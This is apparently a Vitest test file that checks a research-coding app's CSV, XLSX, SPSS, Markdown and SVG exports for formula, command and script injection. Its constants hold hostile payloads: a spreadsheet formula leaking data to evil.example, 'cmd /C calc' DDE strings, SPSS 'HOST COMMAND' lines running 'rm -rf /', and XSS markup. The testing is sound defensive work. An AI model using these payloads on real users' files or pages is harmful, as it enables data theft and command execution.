/**
 * Issue 11, finding 5: user text in export files must stay data. Titles, comments, coded
 * text, option values and labels, rationales, names and emails that begin like a formula
 * (`=`, `+`, `-`, `@`, tab, CR) reach every CSV with a leading `'` (OWASP), plain numbers
 * stay numbers; field and option labels with line breaks cannot start an SPSS command; the
 * Markdown report and the SVG charts show labels as text. Everything goes through the routes,
 * and every CSV of the report page's download list (`EXPORT_FILES`) is checked.
 */
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { assertWellFormed } from '@concord/charts/testing';
import { codebookFields, codebooks, codebookVersions } from '@concord/db';
import { EXPORT_FILES, newId, type CodebookInput, type ExportFile, type Role } from '@concord/shared';
import { addToProject, createHarness, json, signUp, signUpTeam, type Harness, type Session } from './harness.ts';

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';
const PLUS = "+cmd|' /C calc'!A0";
const MINUS = "-2+3+cmd|' /C calc'!A0";
const AT = '@SUM(1+9)*cmd|\' /C calc\'!A0';
const TAB = '\t=1+1';
const CR = '\r=1+1';
/** Option values may not hold "|" (the set separator). */
const MINUS_VALUE = '-2+3*A1';
const FULLWIDTH = '\uFF1D1+1';
const SPSS_LABEL = "Frame x\nHOST COMMAND=['rm -rf /'].";
const SPSS_QUOTED = "it's\n'.\nHOST COMMAND=['id'].\n* '";
const MARKUP = '<img src=x onerror=alert(1)> [click](javascript:alert(1))';
const SCRIPT = '</text><script>alert(1)</script>';

const HOSTILE_CODEBOOK: CodebookInput = {
  name: `Codebook\n# Injected heading ${MARKUP}`,
  fields: [
    {
      key: 'frame',
      label: SPSS_LABEL,
      help: TAB,
      type: 'single_choice',
      required: true,
      allowNa: true,
      options: [
        { value: FORMULA, label: PLUS, parent: null, help: CR },
        { value: MINUS_VALUE, label: SPSS_QUOTED, parent: FORMULA, help: FULLWIDTH },
        { value: 'plain', label: SCRIPT, parent: null, help: '' },
      ],
    },
    {
      key: 'impact',
      label: `Impact ${MARKUP}`,
      help: '',
      type: 'ordinal',
      required: true,
      allowNa: false,
      scale: [-3, -2, -1, 0, 1, 2, 3].map((value) => ({ value, label: value === -1 ? '-1+1' : String(value) })),
    },
    { key: 'notes', label: AT, help: '', type: 'text', required: false, allowNa: false, maxLength: 1000 },
  ],
};

/** A cell a spreadsheet would evaluate: it starts like a formula and is not a plain number. */
const FORMULA_START = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
const PLAIN_NUMBER = /^[-+]?(\d+(\.\d+)?|\.\d+)([eE][-+]?\d+)?$/;

let h: Harness;
let team: Record<Role, Session>;
let coder2: Session;
let projectId: string;
let itemId: string;

async function call(who: Session, method: string, path: string, body?: unknown) {
  const res = await h.request(who, method, `/api/projects${path}`, body);
  expect(res.status, `${method} ${path}: ${await res.clone().text()}`).toBeLessThan(300);
  return res;
}

beforeAll(async () => {
  h = await createHarness();
  team = await signUpTeam(h);
  // An email and a display name that start like a formula.
  coder2 = await signUp(h, '-2+3');
  const project = await json<{ id: string }>(await call(team.owner, 'POST', '', { name: MARKUP, description: '' }));
  projectId = project.id;
  for (const [who, role] of [[team.editor, 'editor'], [team.methodologist, 'methodologist'], [team.coder, 'coder'], [coder2, 'coder']] as const) {
    await addToProject(h, team.owner, projectId, who, role);
  }
  await saveLegacyCodebook(projectId, HOSTILE_CODEBOOK);
  const item = await json<{ id: string }>(await call(team.editor, 'POST', `/${projectId}/items`, { title: FORMULA, externalId: AT, platform: 'facebook' }));
  itemId = item.id;
  await call(team.owner, 'POST', `/${projectId}/assignments`, { roundName: PLUS, coderIds: [team.coder.userId, coder2.userId], itemIds: [itemId], mode: { type: 'k', k: 2 } });
  const base = `/${projectId}/items/${itemId}`;
  await call(team.coder, 'PUT', `${base}/codings/me`, { values: { frame: FORMULA, impact: -3, notes: TAB } });
  await call(coder2, 'PUT', `${base}/codings/me`, { values: { frame: MINUS_VALUE, impact: -1, notes: MINUS } });
  await call(team.coder, 'POST', `${base}/codings/me/submit`);
  await call(coder2, 'POST', `${base}/codings/me/submit`);
  await call(coder2, 'POST', `${base}/comments`, { body: FORMULA, fieldKey: 'frame' });
  await call(team.editor, 'POST', `${base}/comments`, { body: `${FULLWIDTH} agreed` });
  await call(team.editor, 'PUT', `${base}/adjudications/frame`, { value: MINUS_VALUE, rationale: AT });
}, 120_000);
afterAll(() => h.close());

/**
 * New option codes must be identifiers, but a codebook saved before that rule may hold any
 * code but "|" (only new or changed codes are checked), and exports must keep those inert:
 * written here as such a codebook, straight into its current version.
 */
async function saveLegacyCodebook(project: string, input: CodebookInput) {
  const db = h.deps.database.db;
  const [cb] = await db.select().from(codebooks).where(eq(codebooks.projectId, project));
  const [version] = await db.select().from(codebookVersions).where(and(eq(codebookVersions.codebookId, cb!.id), eq(codebookVersions.version, cb!.currentVersion)));
  await db.delete(codebookFields).where(eq(codebookFields.versionId, version!.id));
  await db
    .insert(codebookFields)
    .values(input.fields.map((f, position) => ({ id: newId('field'), versionId: version!.id, key: f.key, position, type: f.type, definition: f })));
  await db.update(codebooks).set({ name: input.name }).where(eq(codebooks.id, cb!.id));
}

async function download(path: string): Promise<string> {
  const res = await h.request(team.owner, 'GET', `/api/projects/${projectId}/${path}`);
  expect(res.status, `${path}: ${await res.clone().text()}`).toBe(200);
  return res.text();
}

/** Every URL of a download: per-field files once per field they can lay out. */
function downloadPaths(file: ExportFile): string[] {
  if (!file.perField) return [file.path];
  const fields = HOSTILE_CODEBOOK.fields.filter((f) => !file.fieldTypes || (file.fieldTypes as readonly string[]).includes(f.type));
  return fields.map((f) => `${file.path}${file.path.includes('?') ? '&' : '?'}field=${f.key}`);
}

const CSV_FILES = EXPORT_FILES.filter((f) => f.path.includes('.csv'));
/** CSV downloads of other pages: the owner's audit log, the narrative workbench. */
const OTHER_CSV_PATHS = ['audit.csv', 'workbench.csv'];
/** The charts' tables (one route, `charts/{chart}`, answers `.csv`): option and field labels, incident names. */
const CHART_CSV_PATHS = ['parent-frames', 'frames-table', 'frames-by-incident'].map((c) => `charts/${c}.csv?field=frame`).concat('charts/impact-by-incident.csv?field=impact');
const cells = (csv: string) => (parse(csv, { relax_column_count: true }) as string[][]).flat();

describe('CSV exports', () => {
  it('are all checked here: every route that answers text/csv is a download of the report page, its charts, the workbench or the audit page', async () => {
    const doc = await json<{ paths: Record<string, Record<string, { responses?: Record<string, { content?: Record<string, unknown> }> }>> }>(
      await h.request(null, 'GET', '/api/openapi.json'),
    );
    const csvRoutes = Object.entries(doc.paths)
      .filter(([, ops]) => Object.values(ops).some((op) => op.responses?.['200']?.content?.['text/csv']))
      .map(([path]) => path.replace('/api/projects/{projectId}/', ''));
    expect(csvRoutes.length).toBeGreaterThan(5);
    expect(new Set([...CSV_FILES.map((f) => f.path.split('?')[0]), ...OTHER_CSV_PATHS, 'charts/{chart}'])).toEqual(new Set(csvRoutes));
  });

  it.each([...CSV_FILES.flatMap(downloadPaths), ...OTHER_CSV_PATHS, ...CHART_CSV_PATHS])('%s holds no cell a spreadsheet would run', async (path) => {
    const all = cells(await download(path));
    expect(all.length).toBeGreaterThan(0);
    for (const cell of all) if (FORMULA_START.test(cell)) expect(cell, `${path}: ${JSON.stringify(cell)}`).toMatch(PLAIN_NUMBER);
  });

  it('keeps the hostile text, behind a leading apostrophe, and plain numbers as they are', async () => {
    const long = cells(await download('export/codings.csv?layout=long'));
    expect(long).toEqual(expect.arrayContaining([`'${FORMULA}`, `'${MINUS_VALUE}`, `'${TAB}`, `'${MINUS}`, '-3', '-1', `'${AT}`]));
    const discussion = cells(await download('export/discussion.csv'));
    expect(discussion).toEqual(expect.arrayContaining([`'${FORMULA}`, `'${FULLWIDTH} agreed`, `'${AT}`]));
    // Names and emails reach the files only when the project shows names (pseudonyms otherwise).
    await call(team.owner, 'PATCH', `/${projectId}`, { showCoderNames: true });
    expect(cells(await download('export/codings.csv?layout=long'))).toContain("'-2+3");
    expect(cells(await download('export/discussion.csv'))).toEqual(expect.arrayContaining(["'-2+3", `'${coder2.email}`]));
    await call(team.owner, 'PATCH', `/${projectId}`, { showCoderNames: false });
    expect(cells(await download('export/coder-key.csv'))).toEqual(expect.arrayContaining(["'-2+3", `'${coder2.email}`]));
    const final = cells(await download('export/final.csv'));
    expect(final).toEqual(expect.arrayContaining([`'${FORMULA}`, `'${AT}`, `'${MINUS_VALUE}`]));
    const codebook = cells(await download('export/codebook.csv'));
    expect(codebook).toEqual(expect.arrayContaining([`'${PLUS}`, `'${TAB}`, `'${CR}`, `'${FULLWIDTH}`, "'-1+1", '-3']));
    const gold = cells(await download('export/gold.csv?layout=long'));
    expect(gold).toEqual(expect.arrayContaining([`'${MINUS_VALUE}`, `'${AT}`]));
  });
});

/** The SPSS lines outside string literals and comments; throws on a string left open at a line end. */
function spssCommands(syntax: string): string[] {
  const starts: string[] = [];
  for (const line of syntax.split(/\r\n|\r|\n/)) {
    if (line === '') continue;
    if (!line.startsWith(' ')) starts.push(line.startsWith('*') ? '*' : line.split(/[ /=]/)[0]!);
    if (line.startsWith('*')) {
      expect(line, 'a comment is one line ending with its period').toMatch(/\.$/);
      continue;
    }
    let open = false;
    for (let i = 0; i < line.length; i++) {
      if (line[i] !== "'") continue;
      if (open && line[i + 1] === "'") i++;
      else open = !open;
    }
    expect(open, `string left open: ${line}`).toBe(false);
  }
  return starts;
}

describe('SPSS syntax', () => {
  it('keeps labels with line breaks and quotes inside their comment or string', async () => {
    for (const field of ['frame', 'impact']) {
      const sps = await download(`export/spss-kalpha.sps?field=${field}`);
      expect(sps).not.toMatch(/^\s*HOST/im);
      expect(spssCommands(sps)).toEqual(['*', '*', '*', 'GET', 'SORT', 'DATASET', '*', 'GET', 'SORT', 'DATASET', 'DATASET', 'MATCH', 'DATASET', 'VARIABLE', 'VARIABLE', 'VALUE', 'KALPHA']);
    }
  });
});

describe('XLSX exports', () => {
  /** Every cell of every sheet, as exceljs reads it back. */
  async function workbookCells(path: string) {
    const res = await h.request(team.owner, 'GET', `/api/projects/${projectId}/${path}`);
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await res.arrayBuffer());
    const found: ExcelJS.Cell[] = [];
    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((cell) => found.push(cell)));
    return found;
  }

  it.each(EXPORT_FILES.filter((f) => f.path.endsWith('.xlsx')).map((f) => f.path))('%s holds hostile text as text cells, never a formula', async (path) => {
    const all = await workbookCells(path);
    expect(all.length).toBeGreaterThan(0);
    for (const cell of all) {
      expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Number], `${path} ${cell.address}`).toContain(cell.type);
      expect(cell.formula, `${path} ${cell.address}`).toBeUndefined();
    }
    const texts = all.map((c) => c.value);
    // Exactly as coded: a string cell is shown as text and never evaluated, so no `'` is added.
    expect(texts).toEqual(expect.arrayContaining([FORMULA, MINUS_VALUE]));
  });
});

describe('Markdown report', () => {
  it('shows names and labels as text: no HTML, no link, no heading of their own', async () => {
    const md = await download('report?format=md&bootstrap=0');
    expect(md.split('\n').filter((l) => l.startsWith('#'))).toEqual([expect.stringMatching(/^# Reliability report: /), '## Methods', '## Reliability by field', '## Exhibits', '## Data']);
    expect(md).not.toMatch(/(^|[^\\])<img/);
    expect(md).not.toMatch(/\]\(javascript:/);
    expect(md).not.toMatch(/^HOST/m);
    expect(md).toContain('Impact');
  });
});

describe('SVG charts', () => {
  it('draw hostile option labels as text', async () => {
    for (const chart of ['frames-table', 'parent-frames']) {
      const svg = await download(`charts/${chart}.svg?field=frame`);
      assertWellFormed(svg);
      expect(svg).not.toContain('<script');
      expect(svg).toContain('&lt;/text&gt;&lt;script&gt;');
    }
    // Their tables keep option values and labels that start like a formula behind the leading quote.
    expect(cells(await download('charts/frames-table.csv?field=frame'))).toEqual(expect.arrayContaining([`'${FORMULA}`, `'${PLUS}`, `'${MINUS_VALUE}`, SCRIPT]));
  });
});

describe('caching of downloads and answers', () => {
  // Exports, the key and reports hold codings and names: a browser's disk cache or a proxy must
  // not keep a copy after the download (a shared computer, a removed member's browser).
  it.each([...EXPORT_FILES.flatMap(downloadPaths), ...OTHER_CSV_PATHS, ...CHART_CSV_PATHS, 'report?format=md&bootstrap=0', 'charts/frames-table.svg?field=frame'])(
    '%s is sent with Cache-Control: no-store',
    async (path) => {
      const res = await h.request(team.owner, 'GET', `/api/projects/${projectId}/${path}`);
      expect(res.status, path).toBe(200);
      expect(res.headers.get('cache-control'), path).toBe('no-store');
    },
  );

  it('so are the API answers and its errors', async () => {
    for (const path of ['', '/members', `/items/${itemId}/codings`, '/reliability'].map((p) => `/api/projects/${projectId}${p}`)) {
      const res = await h.request(team.owner, 'GET', path);
      expect(res.status, path).toBeLessThan(300);
      expect(res.headers.get('cache-control'), path).toBe('no-store');
    }
    const refused = await h.request(coder2, 'GET', `/api/projects/${projectId}/export/coder-key.csv`);
    expect(refused.status).toBe(403);
    expect(refused.headers.get('cache-control')).toBe('no-store');
  });
});
